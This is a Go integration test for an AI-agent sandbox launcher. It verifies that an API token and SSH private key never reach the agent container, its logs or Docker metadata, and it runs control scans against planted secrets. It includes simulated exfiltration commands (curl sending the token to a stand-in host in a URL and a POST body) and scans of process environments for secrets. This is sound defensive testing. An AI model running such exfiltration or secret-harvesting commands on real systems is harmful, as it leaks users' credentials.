package launcher

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/moby/moby/api/types/container"
	"github.com/moby/moby/client"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bot-bottle/bot-bottle/backends"
	"github.com/bot-bottle/bot-bottle/backends/docker"
	"github.com/bot-bottle/bot-bottle/dag"
	"github.com/bot-bottle/bot-bottle/internal/plan"
	"github.com/bot-bottle/bot-bottle/internal/testenv"
	"github.com/bot-bottle/bot-bottle/manifest"
	"github.com/bot-bottle/bot-bottle/steps"
)

// lockedBuffer is a log sink safe for concurrent writers.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

func randomHex(t *testing.T, n int) string {
	b := make([]byte, n)
	_, err := rand.Read(b)
	require.NoError(t, err)
	return hex.EncodeToString(b)
}

// needles are the strings a leak scan looks for, by name.
type needles map[string]string

// in returns the names of the needles found in text, sorted.
func (n needles) in(text string) []string {
	var out []string
	for name, v := range n {
		if strings.Contains(text, v) {
			out = append(out, name)
		}
	}
	sort.Strings(out)
	return out
}

func (n needles) values() []string {
	var out []string
	for _, v := range n {
		out = append(out, v)
	}
	sort.Strings(out)
	return out
}

// keyNeedles are the lines of an OpenSSH private key file that carry key
// material: every base64 line but the first, which is a header all
// unencrypted ed25519 keys share.
func keyNeedles(t *testing.T, keyPath string) needles {
	t.Helper()
	b, err := os.ReadFile(keyPath)
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	require.GreaterOrEqual(t, len(lines), 4, "an OpenSSH private key")
	out := needles{}
	for i, l := range lines[2 : len(lines)-1] {
		out["key line "+string(rune('a'+i))] = l
	}
	return out
}

// procEnvirons is every process environment in the guest, one variable a
// line, read as root.
func procEnvirons(t *testing.T, g backends.Guest) string {
	t.Helper()
	return run(t, g, "sh", "-c", `for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null; done; true`)
}

// filesContaining greps the guest's whole filesystem but /proc, /sys and
// /dev for the needles and returns the files that hold one.
func filesContaining(t *testing.T, g backends.Guest, n needles) []string {
	t.Helper()
	argv := []string{"grep", "-rlsF"}
	for _, v := range n.values() {
		argv = append(argv, "-e", v)
	}
	argv = append(argv, "--")
	for _, d := range strings.Fields(run(t, g, "sh", "-c", "ls -d /*")) {
		switch d {
		case "/proc", "/sys", "/dev":
		default:
			argv = append(argv, d)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	res, err := g.Exec(ctx, backends.ExecRequest{Argv: argv})
	switch {
	case err == nil:
	case res.ExitCode == 1:
		return nil // grep: no match
	case res.ExitCode == 2 && res.Stdout != "":
		// Unreadable special files make grep exit 2 even when it matched.
	default:
		require.NoError(t, err, "grep: %s", res.Stderr)
	}
	return strings.Fields(res.Stdout)
}

// inspectJSON is the Engine API's ContainerInspect answer, as sent.
func inspectJSON(t *testing.T, eng *docker.Engine, name string) string {
	t.Helper()
	res, err := eng.Client().ContainerInspect(context.Background(), name, client.ContainerInspectOptions{})
	require.NoError(t, err)
	return string(res.Raw)
}

// imageJSON is an image's ImageInspect and ImageHistory answers.
func imageJSON(t *testing.T, eng *docker.Engine, ref string) string {
	t.Helper()
	ctx := context.Background()
	var raw bytes.Buffer
	_, err := eng.Client().ImageInspect(ctx, ref, client.ImageInspectWithRawResponse(&raw))
	require.NoError(t, err)
	hist, err := eng.Client().ImageHistory(ctx, ref)
	require.NoError(t, err)
	h, err := json.Marshal(hist)
	require.NoError(t, err)
	return raw.String() + "\n" + string(h)
}

// allContainerLabels is the labels of every container on the engine.
func allContainerLabels(t *testing.T, eng *docker.Engine) string {
	t.Helper()
	res, err := eng.Client().ContainerList(context.Background(), client.ContainerListOptions{All: true})
	require.NoError(t, err)
	var b strings.Builder
	for _, c := range res.Items {
		for k, v := range c.Labels {
			b.WriteString(k + "=" + v + "\n")
		}
	}
	return b.String()
}

// TestDockerSecretsStayOutside launches a bottle holding a token route and
// an ssh identity for its git gate, then looks for the token and the
// private key everywhere the agent or the engine could show them. Every
// scan then finds a planted copy, proving it would have caught a leak.
func TestDockerSecretsStayOutside(t *testing.T) {
	keyDir := t.TempDir()
	key := filepath.Join(keyDir, "id_ed25519")
	out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "bot-bottle-secrets-test", "-f", key).CombinedOutput()
	require.NoError(t, err, "%s", out)
	token := "tok-" + randomHex(t, 16)
	secrets := keyNeedles(t, key)
	secrets["token"] = token
	// The decoy is ordinary, non-secret configuration (an env: value and a
	// directory name): it must show up where the secrets must not.
	decoy := "decoy-" + randomHex(t, 8)

	m := &manifest.Manifest{
		Bottles: map[string]*manifest.Bottle{"dev": {
			Git:       []manifest.GitEntry{{Name: "proj", Upstream: "ssh://root@sshup.test/srv/proj.git", IdentityFile: key}},
			Egress:    &manifest.Egress{Routes: []manifest.Route{{Host: "api.test", TokenEnv: "SECRETS_TEST_TOKEN"}}},
			Allow:     []string{"upstream.test"},
			Supervise: true,
			Env:       map[string]string{"DECOY_VALUE": decoy},
		}},
		Agents: map[string]*manifest.Agent{"secrets": {Bottle: "dev", Prompt: "Use the API."}},
	}
	o, eng := dockerOptions(t, m, "secrets", env{"SECRETS_TEST_TOKEN": token})
	var logs lockedBuffer
	o.Log = slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	// A cwd without .git makes the launcher log a warning naming it: the
	// decoy in the log is the log scan's control.
	o.CopyCwd, o.Cwd = true, filepath.Join(t.TempDir(), decoy)
	require.NoError(t, os.Mkdir(o.Cwd, 0o755))
	tlsDir, upstreamCA := upstreamTLS(t, "api.test", "upstream.test")
	o.UpstreamCA = upstreamCA
	ctx := context.Background()

	// An sshd upstream of the test's own holding /srv/proj.git, reached
	// with the generated key, which only the gate may hold; it also serves
	// HTTP(S) as api.test and upstream.test.
	labels := testenv.Labels(t)
	testenv.Cleanup(t, eng, labels)
	testNet := testenv.Name("bbt-secnet")
	_, err = eng.CreateNetwork(ctx, backends.NetworkSpec{Name: testNet, Labels: labels})
	require.NoError(t, err)
	sshd := serverWithMounts(t, eng, testNet, nil, []backends.Mount{{Source: tlsDir, Target: "/tls", ReadOnly: true}}, "sleep", "infinity")
	up := eng.Guest(sshd)
	sshUpstream(t, up, key+".pub")
	run(t, up, "sh", "-c", "/testserver -http :80 -https :443 -cert /tls/cert.pem -key /tls/key.pem >/tmp/testserver.log 2>&1 &")

	var slug string
	var p *plan.Plan
	o.OnPlanned = func(pl *plan.Plan) { p, slug = pl, pl.Slug }
	o.Wrap = func(s dag.Step) dag.Step {
		if s.ID() != steps.IDSidecarGitGate {
			return s
		}
		return hook{s, func(ctx context.Context) error {
			return connect(ctx, eng, sshd, p.Names.Outside, "sshup.test", "api.test", "upstream.test")
		}}
	}
	removeAtEnd(t, o, &slug)
	launched, _, err := Run(ctx, o)
	require.NoError(t, err)
	g := eng.Guest(launched.Plan.Names.Agent)
	agentInsp, err := eng.Client().ContainerInspect(ctx, p.Names.Agent, client.ContainerInspectOptions{})
	require.NoError(t, err)
	agentImage := agentInsp.Container.Image

	// The gate really holds the key and uses it: a clone through the gate
	// reaches the ssh upstream.
	assert.Equal(t, "seed", func() string {
		runAsNode(t, g, "git", "clone", "-q", "ssh://root@sshup.test/srv/proj.git", "/home/node/proj")
		return runAsNode(t, g, "git", "-C", "/home/node/proj", "log", "-1", "--format=%s")
	}())
	code, _ := tryRun(t, eng.Guest(p.Names.GitGate), "grep", "-qsF", secrets["key line a"], "/etc/bot-bottle/keys/proj")
	require.Equal(t, 0, code, "the key is mounted into the gate")

	// Exfiltration attempts through egress: the token in a URL and in a
	// body is refused, and the audit log must not copy it.
	_, refused, _ := probeStdout(t, g, "curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", "http://upstream.test/q?t="+token)
	assert.Equal(t, "403", refused)
	_, refused, _ = probeStdout(t, g, "curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", "--data-binary", "x="+token, "https://upstream.test/post")
	assert.Equal(t, "403", refused)
	// The decoy sent the same way is forwarded and logged: the control of
	// the sidecar log scan.
	_, ok, _ := probeStdout(t, g, "curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", "http://upstream.test/"+decoy)
	assert.Equal(t, "200", ok)

	// A careless upstream that echoes the request headers back in its body
	// must not hand the agent the injected token either.
	t.Run("a reflecting upstream", func(t *testing.T) {
		code, body, stderr := probeStdout(t, g, "curl", "-sS", "-m", "10", "https://api.test/echo")
		require.Equal(t, 0, code, stderr)
		assert.Contains(t, body, `"Authorization":["Bearer `+strings.Repeat("*", len(token))+`"]`, "the upstream got the token; the agent sees it masked")
		assert.Empty(t, secrets.in(body), "the token reached the agent in a response body")
	})

	containers := []string{p.Names.Agent, p.Names.Egress, p.Names.GitGate, p.Names.Supervise}
	t.Run("scans find nothing", func(t *testing.T) {
		assert.Empty(t, secrets.in(procEnvirons(t, g)), "in a process environment of the agent")
		assert.Empty(t, filesContaining(t, g, secrets), "files of the agent")
		for _, c := range containers {
			assert.Empty(t, secrets.in(inspectJSON(t, eng, c)), "in docker inspect %s", c)
		}
		assert.Empty(t, secrets.in(imageJSON(t, eng, agentImage)), "in the agent image's config or history")
		assert.Empty(t, secrets.in(allContainerLabels(t, eng)), "in a container label")
		assert.Empty(t, secrets.in(logs.String()), "in the launcher's log")
		for _, c := range containers[1:] {
			l, err := eng.Logs(ctx, c)
			require.NoError(t, err)
			assert.Empty(t, secrets.in(l), "in the log of %s", c)
		}
		// On the host, the token is in one file of the state dir alone,
		// readable by the user alone.
		var holders []string
		require.NoError(t, filepath.Walk(p.StateDir, func(path string, fi os.FileInfo, err error) error {
			if err != nil || fi.IsDir() {
				return err
			}
			b, err := os.ReadFile(path)
			if err == nil && bytes.Contains(b, []byte(token)) {
				holders = append(holders, strings.TrimPrefix(path, p.StateDir+"/"))
				assert.Equal(t, os.FileMode(0o600), fi.Mode().Perm(), path)
			}
			return nil
		}))
		assert.Equal(t, []string{"egress/secrets.json"}, holders)
	})

	// Controls: the same scans find the decoy where it belongs, then find
	// the real secrets once they are planted.
	decoys := needles{"decoy": decoy}
	t.Run("control: the decoy is found", func(t *testing.T) {
		assert.Equal(t, []string{"decoy"}, decoys.in(procEnvirons(t, g)))
		assert.Equal(t, []string{"decoy"}, decoys.in(inspectJSON(t, eng, p.Names.Agent)))
		assert.Equal(t, []string{"decoy"}, decoys.in(logs.String()))
		l, err := eng.Logs(ctx, p.Names.Egress)
		require.NoError(t, err)
		assert.Equal(t, []string{"decoy"}, decoys.in(l))
	})
	t.Run("control: planted secrets are found", func(t *testing.T) {
		// A process with the token in its environment, and files holding
		// the token and a key line.
		_, err := g.Exec(ctx, backends.ExecRequest{
			Argv: []string{"sh", "-c", "sleep 300 >/dev/null 2>&1 &"},
			Env:  []string{"PLANTED=" + token},
		})
		require.NoError(t, err)
		run(t, g, "sh", "-c", `printf '%s\n' "$1" > /var/tmp/planted-token; printf '%s\n' "$2" > /home/node/.planted-key`, "sh", token, secrets["key line a"])
		assert.Equal(t, []string{"token"}, secrets.in(procEnvirons(t, g)))
		assert.ElementsMatch(t, []string{"/var/tmp/planted-token", "/home/node/.planted-key"}, filesContaining(t, g, secrets))

		// An image and a container carrying the token in their config.
		ref := "bbt-planted:" + randomHex(t, 6)
		commit, err := eng.Client().ContainerCommit(ctx, p.Names.Agent, client.ContainerCommitOptions{
			Reference: ref, Config: &container.Config{Env: []string{"PLANTED=" + token}, Labels: labels},
		})
		require.NoError(t, err)
		t.Cleanup(func() {
			_, _ = eng.Client().ImageRemove(context.Background(), commit.ID, client.ImageRemoveOptions{Force: true, PruneChildren: true})
		})
		assert.Equal(t, []string{"token"}, secrets.in(imageJSON(t, eng, ref)))
		planted := testenv.Name("bbt-planted")
		_, err = eng.CreateContainer(ctx, backends.ContainerSpec{
			Name: planted, Image: ref, Entrypoint: []string{"true"},
			Labels: map[string]string{testenv.LabelTest: labels[testenv.LabelTest], "planted": token},
		})
		require.NoError(t, err)
		assert.Equal(t, []string{"token"}, secrets.in(inspectJSON(t, eng, planted)))
		assert.Equal(t, []string{"token"}, secrets.in(allContainerLabels(t, eng)))
		require.NoError(t, eng.RemoveContainer(ctx, planted))
	})
}

// TestDockerSecretInErrorsIsNotShown fails a launch on a token the egress
// refuses (it holds a line break): the launch error and the launcher's
// log explain the failure without either half of the token.
func TestDockerSecretInErrorsIsNotShown(t *testing.T) {
	first, second := "tok-"+randomHex(t, 12), "tail-"+randomHex(t, 12)
	token := first + "\n" + second
	m := &manifest.Manifest{
		Bottles: map[string]*manifest.Bottle{"dev": {
			Egress: &manifest.Egress{Routes: []manifest.Route{{Host: "api.test", TokenEnv: "SECRETS_TEST_TOKEN"}}},
		}},
		Agents: map[string]*manifest.Agent{"secrets-err": {Bottle: "dev"}},
	}
	o, _ := dockerOptions(t, m, "secrets-err", env{"SECRETS_TEST_TOKEN": token})
	var logs lockedBuffer
	o.Log = slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	var slug string
	o.OnPlanned = func(pl *plan.Plan) { slug = pl.Slug }
	removeAtEnd(t, o, &slug)
	_, _, err := Run(context.Background(), o)
	require.Error(t, err)
	t.Logf("the launch failed with: %v", err)
	assert.Contains(t, err.Error(), "SECRETS_TEST_TOKEN", "the error names the variable")
	leaks := needles{"first half": first, "second half": second}
	assert.Empty(t, leaks.in(err.Error()), "in the launch error")
	assert.Empty(t, leaks.in(logs.String()), "in the launcher's log")
	if slug != "" {
		requireNothingLeft(t, o.Engine, o.StateRoot, slug)
	}
}
